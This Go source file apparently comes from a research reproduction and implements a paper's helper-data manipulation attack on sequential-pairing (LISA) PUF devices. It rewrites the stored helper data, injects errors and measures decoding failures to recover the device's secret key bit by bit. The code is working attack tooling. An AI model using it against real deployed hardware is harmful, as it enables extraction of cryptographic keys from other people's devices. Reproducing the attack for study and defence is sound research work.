package attack

import (
	"context"
	"fmt"
	"slices"

	"repro/internal/bitvec"
	"repro/internal/ecc"
	"repro/internal/pairing"
)

func init() { Register(seqPairAttack{}) }

// SeqPairDetails is the seqpair attack's Report payload.
type SeqPairDetails struct {
	// Relations[j] reports r_j != r_0 for pair j (index 0 is the
	// reference and always false).
	Relations []bool
	// Calibration echoes the measured reference rates.
	Calibration Calibration
}

// seqPairAttack is the paper's §VI-A key recovery against a deployed
// sequential-pairing (LISA) device.
//
// Hypotheses H0: r_0 = r_j, H1: r_0 != r_j are distinguished by swapping
// the POSITIONS of pairs 0 and j in the helper list, which injects two
// bit errors exactly when the bits differ. The common offset uses
// within-pair order swaps — each inverts one response bit
// deterministically and value-independently ("one can select these pairs
// which will introduce a pair of erroneous bits for sure" generalizes to
// this cheaper injector once the storage format compares stored order).
// The final complement decision compares the consistency of the two
// candidate keys with crafted sets of ECC helper data.
type seqPairAttack struct{}

func (seqPairAttack) Name() string { return "seqpair" }
func (seqPairAttack) Description() string {
	return "§VI-A sequential-pairing (LISA) full key recovery"
}

func (a seqPairAttack) Run(ctx context.Context, t Target, opts Options) (Report, error) {
	spec := t.Spec()
	originalImage, err := t.ReadImage()
	if err != nil {
		return Report{}, err
	}
	var original pairing.SeqPairHelper
	var origOffset bitvec.Vector
	if err := seqPairInto(originalImage, &original, &origOffset); err != nil {
		return Report{}, err
	}
	defer func() { _ = t.WriteImage(originalImage) }() // leave the device as found

	m := len(original.Pairs)
	code := spec.Code
	opts.clampInject(code)
	blockLen := code.N()
	// Every test focuses on ECC block 0: the reference pair 0 lives
	// there, and injections must share its block to add up.
	inBlock0 := min(blockLen, m)
	if inBlock0 < opts.InjectErrors+2 {
		return Report{}, fmt.Errorf("attack: block 0 holds %d pairs, need %d for injection",
			inBlock0, opts.InjectErrors+2)
	}

	budget := NewBudget(opts.QueryBudget)
	startQueries := t.Queries()
	tr := newTracer(a.Name(), t, opts)

	arms := newSeqPairArms(original, origOffset)

	// injectionSet fills dst (from its start) with opts.InjectErrors
	// positions inside block 0 avoiding the two pairs under test (-1 =
	// avoid nothing); the relation sweep reuses one buffer across its
	// m-1 decisions.
	injectionSet := func(dst []int, avoidA, avoidB int) []int {
		dst = dst[:0]
		for p := 0; p < inBlock0 && len(dst) < opts.InjectErrors; p++ {
			if p != avoidA && p != avoidB {
				dst = append(dst, p)
			}
		}
		return dst
	}

	// Calibration: rates at offset and offset+1 errors, all via
	// value-independent within-pair swaps.
	tr.phase("calibrate")
	calNom := injectionSet(make([]int, 0, opts.InjectErrors+1), -1, -1)
	calElev := injectionSet(make([]int, 0, opts.InjectErrors+1), -1, -1)
	for p := 0; p < inBlock0; p++ {
		if !slices.Contains(calElev, p) {
			calElev = append(calElev, p)
			break
		}
	}
	cal, err := calibrate(ctx, t, arms.arm(0, calNom, 0, 0), arms.arm(1, calElev, 0, 0), calibrationQueries, budget)
	if err != nil {
		return Report{}, err
	}
	dist := cal.Apply(opts.Dist)

	// Relation recovery: for each j, arm A = injections + position swap
	// of pairs 0 and j, arm B = injections only (H0-like reference).
	tr.phase("relations")
	relations := make([]bool, m)
	var inj []int
	for j := 1; j < m; j++ {
		inj = injectionSet(inj, 0, j)
		// Arms ordered so index 0 = "bits equal" (swap is a no-op on
		// the key, failure stays nominal) — for the swap arm. The
		// reference arm identifies the nominal level; Best picks the
		// arm behaving nominally. If the swap arm is nominal, bits are
		// equal.
		best, _, err := dist.BestHypotheses(ctx, t, []Hypothesis{
			arms.arm(0, inj, 0, j), // swap arm
			arms.arm(1, inj, 0, 0), // reference arm
		}, budget)
		if err != nil {
			return Report{}, fmt.Errorf("attack: pair %d: %w", j, err)
		}
		relations[j] = best != 0 // swap arm elevated => bits differ
		tr.step("relations", j, m-1)
	}

	// Assemble the two key candidates.
	tr.phase("complement")
	cand0 := bitvec.New(m)
	for j := 1; j < m; j++ {
		cand0.Set(j, relations[j]) // assumes r_0 = 0
	}
	cand1 := cand0.Not()

	// Complement decision. Offline first: check code-offset consistency
	// of both candidates against the original ECC helper.
	key, ambiguous := resolveComplement(code, origOffset, cand0, cand1)

	rep := tr.report(startQueries)
	rep.Key = key
	rep.Ambiguous = ambiguous
	rep.Details = SeqPairDetails{Relations: relations, Calibration: cal}
	return rep, nil
}

// seqPairArms builds the seqpair attack's arms from the enrolled helper
// into two pooled write slots; every decision rewrites both. Each arm
// swaps the within-pair order at some positions (the value-independent
// error injector) and, for the swap arm, the list positions of two
// pairs. Every arm shares the untouched offset blob, encoded once.
type seqPairArms struct {
	original []pairing.Pair
	offset   []byte
	list     []pairing.Pair
	slots    [2]*armSlot
}

func newSeqPairArms(original pairing.SeqPairHelper, offset bitvec.Vector) *seqPairArms {
	return &seqPairArms{original: original.Pairs, offset: offset.Append(nil),
		slots: [2]*armSlot{newWriteSlot(), newWriteSlot()}}
}

// arm rewrites slot's image into the original helper with the
// within-pair order swapped at positions invert and the list positions
// of pairs a and b swapped (a == b means no position swap), and returns
// the slot's Hypothesis. The slot's previous arm is gone.
func (s *seqPairArms) arm(slot int, invert []int, a, b int) Hypothesis {
	s.list = append(s.list[:0], s.original...)
	for _, i := range invert {
		s.list[i] = s.list[i].Swapped()
	}
	s.list[a], s.list[b] = s.list[b], s.list[a]
	sl := s.slots[slot]
	sl.blob = pairing.SeqPairHelper{Pairs: s.list}.Append(sl.blob[:0])
	seqPairImage(sl.im, sl.blob, s.offset)
	return sl.hyp
}

// resolveComplement implements the paper's final decision: "the
// performance of two corresponding sets of ECC helper data can be
// compared". The offline consistency check against the original offset
// decides whenever the deployed code excludes the relevant all-ones
// pattern; otherwise the two candidates are information-theoretically
// indistinguishable through this oracle and the result stays ambiguous.
func resolveComplement(code ecc.Code, offset bitvec.Vector, cand0, cand1 bitvec.Vector) (bitvec.Vector, bool) {
	var sk ecc.Sketch
	sk.Size(code, offset.Len())
	ok0 := consistent(&sk, offset, cand0)
	ok1 := consistent(&sk, offset, cand1)
	switch {
	case ok0 && !ok1:
		return cand0, false
	case ok1 && !ok0:
		return cand1, false
	default:
		// Both consistent (all-ones pattern is a codeword) or neither
		// (some relation decided wrongly): query-based comparison of
		// crafted helper sets cannot separate the former case either;
		// return the r_0=0 candidate and flag it.
		return cand0, true
	}
}

// consistent reports whether candidate could be the enrolled response
// for offset, which sk is sized for: offset XOR the zero-padded
// candidate must be a codeword, i.e. decode to itself with zero
// corrections. An offset that is not a whole number of blocks, or is
// shorter than the candidate, binds no candidate.
func consistent(sk *ecc.Sketch, offset, candidate bitvec.Vector) bool {
	if sk.Len() != offset.Len() || candidate.Len() > offset.Len() {
		return false
	}
	stream := sk.Stream()
	stream.PutAt(0, candidate)
	recovered, corrected, ok := sk.Reproduce(offset)
	return ok && corrected == 0 && recovered.Equal(stream)
}
